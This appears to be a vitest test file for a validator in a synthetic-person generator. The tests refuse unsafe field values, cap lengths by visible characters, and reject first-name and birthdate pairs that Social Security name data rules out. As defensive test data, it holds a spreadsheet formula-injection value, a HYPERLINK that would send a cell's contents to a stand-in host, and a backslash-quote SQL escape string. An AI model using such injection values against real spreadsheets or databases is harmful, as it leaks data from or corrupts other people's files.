import { describe, expect, it } from 'vitest';
import { ConstraintError } from './constraints.ts';
import { peopleText, person } from '../options/calls.ts';
import { constraintProblems } from '../options/reading.ts';

const AS_OF = '2026-11-22';

/** What constraintProblems says of one value, as [field, message] pairs. */
function said(constraints: Record<string, string>): [string | undefined, string][] {
  return constraintProblems(constraints, AS_OF).map(({ field, message }) => [field, message]);
}

describe('a value that would harm whoever opens the output is refused, naming the field and why', () => {
  it('one that starts as a spreadsheet formula starts: =, +, -, @, a tab, a carriage return', () => {
    expect(said({ lastName: '=HYPERLINK("http://x.example/?d="&A1,"Click")' })).toEqual([
      [
        'lastName',
        'Last Name starts with “=”, which a spreadsheet reads as the start of a formula.',
      ],
    ]);
    expect(said({ firstName: '+1 555' })).toEqual([
      [
        'firstName',
        'First Name starts with “+”, which a spreadsheet reads as the start of a formula.',
      ],
    ]);
    expect(said({ streetAddress: '-2+3' })).toEqual([
      [
        'streetAddress',
        'Street Address starts with “-”, which a spreadsheet reads as the start of a formula.',
      ],
    ]);
    expect(said({ lastName: '@SUM(1+1)' })).toEqual([
      [
        'lastName',
        'Last Name starts with “@”, which a spreadsheet reads as the start of a formula.',
      ],
    ]);
    expect(said({ lastName: '\t=1+1' })).toEqual([
      [
        'lastName',
        'Last Name starts with a tab, which a spreadsheet reads as the start of a formula.',
      ],
    ]);
    expect(said({ lastName: '\r=1+1' })).toEqual([
      [
        'lastName',
        'Last Name starts with a carriage return, which a spreadsheet reads as the start of a formula.',
      ],
    ]);
    // Inside a value they are plain characters: a hyphenated name, an address with a plus.
    expect(
      said({ lastName: 'Smith-Jones', streetAddress: '12 Main Street = Apt +4 @ rear' }),
    ).toEqual([]);
  });

  it('one that holds a backslash, an escape in MySQL and MariaDB strings', () => {
    expect(said({ streetAddress: "12 Main St\\', 'x" })).toEqual([
      [
        'streetAddress',
        'Street Address holds a backslash, which MySQL and MariaDB read as an escape in SQL text.',
      ],
    ]);
  });

  it('one that holds a control character, a line break among them', () => {
    for (const lastName of ['Lee\u0000', 'Le\u001b[31me', 'Lee\nSmith', 'Lee\u0085']) {
      expect(said({ lastName }), JSON.stringify(lastName)).toEqual([
        ['lastName', 'Last Name holds a line break or another control character.'],
      ]);
    }
  });

  it('one that is only invisible characters: zero-width spaces, joiners, fillers, blank Braille', () => {
    for (const firstName of [
      '\u200b',
      '\u200b\u200c\u200d',
      '\u2060\ufeff',
      '\u3164',
      '\u2800\u2800',
      '\u00ad',
    ]) {
      expect(said({ firstName }), JSON.stringify(firstName)).toEqual([
        ['firstName', 'First Name is only invisible characters.'],
      ]);
    }
    // Spaces alone are blank.
    expect(said({ firstName: ' \u3000 ' })).toEqual([['firstName', 'First Name is blank.']]);
    // An invisible character among visible ones is not the whole value.
    expect(said({ firstName: 'Zoë\u200d' })).toEqual([]);
  });

  it('one that is only combining marks: accents with no letter to sit on', () => {
    for (const lastName of ['\u0301', '\u0301\u0308', ' \u0301 ', '\u093f\u200b']) {
      expect(said({ lastName }), JSON.stringify(lastName)).toEqual([
        [
          'lastName',
          'Last Name is only accents or other combining marks, with no letter to sit on.',
        ],
      ]);
    }
    // Marks on a letter are the letter's: José written with a combining acute.
    expect(said({ firstName: 'Jose\u0301' })).toEqual([]);
  });

  it('one that holds half of a surrogate pair, which UTF-8 cannot write', () => {
    expect(said({ lastName: 'Lee\ud83d' })).toEqual([
      [
        'lastName',
        'Last Name holds half of a character (a lone UTF-16 surrogate), which a file cannot hold.',
      ],
    ]);
  });

  it('and is never written: person() and peopleText() throw before a row', () => {
    const constraints = { lastName: '=1+1' };
    expect(() => person({ seed: 1, index: 0, asOf: AS_OF, constraints })).toThrow(ConstraintError);
    expect(() => [
      ...peopleText({ seed: 1, count: 1, asOf: AS_OF, format: 'csv', constraints }),
    ]).toThrow('Last Name starts with “=”');
  });
});

describe('a value’s length counts what a person sees', () => {
  it('60 emoji are 60 characters, not 120 code units: kept', () => {
    const lastName = '😀'.repeat(60);
    expect(said({ lastName })).toEqual([]);
    expect(person({ seed: 1, index: 0, asOf: AS_OF, constraints: { lastName } }).lastName).toBe(
      lastName,
    );
  });

  it('100 characters are kept, 101 are too many, each an emoji with its skin tone', () => {
    const waving = '👋🏽';
    expect(waving).toHaveLength(4);
    expect(said({ lastName: waving.repeat(100) })).toEqual([]);
    expect(said({ lastName: waving.repeat(101) })).toEqual([
      ['lastName', 'Last Name is longer than 100 characters.'],
    ]);
    expect(said({ lastName: 'a'.repeat(101) })).toEqual([
      ['lastName', 'Last Name is longer than 100 characters.'],
    ]);
  });

  it('a character made of more code units than any script needs is capped at 400 units', () => {
    // One letter and 399 combining accents: one character to the eye, 400 units: kept.
    expect(said({ lastName: `e${'\u0301'.repeat(399)}` })).toEqual([]);
    expect(said({ lastName: `e${'\u0301'.repeat(400)}` })).toEqual([
      [
        'lastName',
        'Last Name is too long: its characters take more than 400 UTF-16 code units (an accent or an emoji’s skin tone takes units of its own).',
      ],
    ]);
    // A megabyte of them is refused as fast, without counting it.
    expect(said({ lastName: `e${'\u0301'.repeat(1_000_000)}` })).toHaveLength(1);
    // Past 400 units and past 100 characters: the length a person sees is what is said.
    expect(said({ lastName: 'ab'.repeat(300) })).toEqual([
      ['lastName', 'Last Name is longer than 100 characters.'],
    ]);
  });
});

describe('a first name and a birthdate the Social Security names say never met are refused', () => {
  const NEVAEH_1950 =
    'Birthdate 6/1/1950 does not go with First Name “Nevaeh”: the Social Security names list it for no girl born in the 1950s.';

  it('Nevaeh born in 1950, given in either order, is a Birthdate problem', () => {
    expect(said({ firstName: 'Nevaeh', birthdate: '6/1/1950' })).toEqual([
      ['birthdate', NEVAEH_1950],
    ]);
    expect(said({ birthdate: '6/1/1950', firstName: 'Nevaeh' })).toEqual([
      ['birthdate', NEVAEH_1950],
    ]);
    expect(said({ firstName: 'Nevaeh', gender: 'female', birthdate: '6/1/1950' })).toEqual([
      ['birthdate', NEVAEH_1950],
    ]);
  });

  it('Nevaeh born in 2005, or in 1999 (the SSA lists 18 such girls of the 1990s), is kept', () => {
    expect(said({ firstName: 'Nevaeh', birthdate: '6/1/2005' })).toEqual([]);
    expect(said({ firstName: 'Nevaeh', birthdate: '6/1/1999' })).toEqual([]);
  });

  it('Mary born in 1950, and a name the data does not know, are kept', () => {
    expect(said({ firstName: 'Mary', birthdate: '6/1/1950' })).toEqual([]);
    expect(said({ firstName: 'Zebulon-Q', birthdate: '6/1/1950' })).toEqual([]);
  });

  it('a name shipped for both sexes is refused only where neither sex, or the locked one, has it', () => {
    expect(said({ firstName: 'Jayden', birthdate: '6/1/1950' })).toEqual([
      [
        'birthdate',
        'Birthdate 6/1/1950 does not go with First Name “Jayden”: the Social Security names list it for no baby born in the 1950s.',
      ],
    ]);
    // The SSA lists boys named Jayden from the 1970s, girls from the 1980s.
    expect(said({ firstName: 'Jayden', birthdate: '6/1/1975' })).toEqual([]);
    expect(said({ firstName: 'Jayden', gender: 'male', birthdate: '6/1/1975' })).toEqual([]);
  });

  it('a gender the name is not shipped for is the Gender problem alone', () => {
    expect(said({ firstName: 'Nevaeh', gender: 'male', birthdate: '6/1/1950' })).toEqual([
      [
        'gender',
        'Gender male does not go with First Name “Nevaeh”: the Social Security names we ship give it to girls only.',
      ],
    ]);
  });

  it('a birth year past the 2000s is read with the 2000s, as the draw reads it, and says so', () => {
    // The SSA lists no girl named Bettye born in the 2000s.
    expect(
      constraintProblems({ firstName: 'Bettye', birthdate: '6/1/2012' }, '2031-01-01').map(
        ({ message }) => message,
      ),
    ).toEqual([
      'Birthdate 6/1/2012 does not go with First Name “Bettye”: the Social Security names list it for no girl born in the 2000s, the nearest decade the names cover.',
    ]);
  });

  it('and no person is made: person() and peopleText() throw', () => {
    const constraints = { firstName: 'Nevaeh', birthdate: '6/1/1950' };
    expect(() => person({ seed: 1, index: 0, asOf: AS_OF, constraints })).toThrow(
      new ConstraintError([{ field: 'birthdate', message: NEVAEH_1950 }]),
    );
    expect(() => [
      ...peopleText({ seed: 1, count: 1, asOf: AS_OF, format: 'csv', constraints }),
    ]).toThrow(NEVAEH_1950);
  });
});
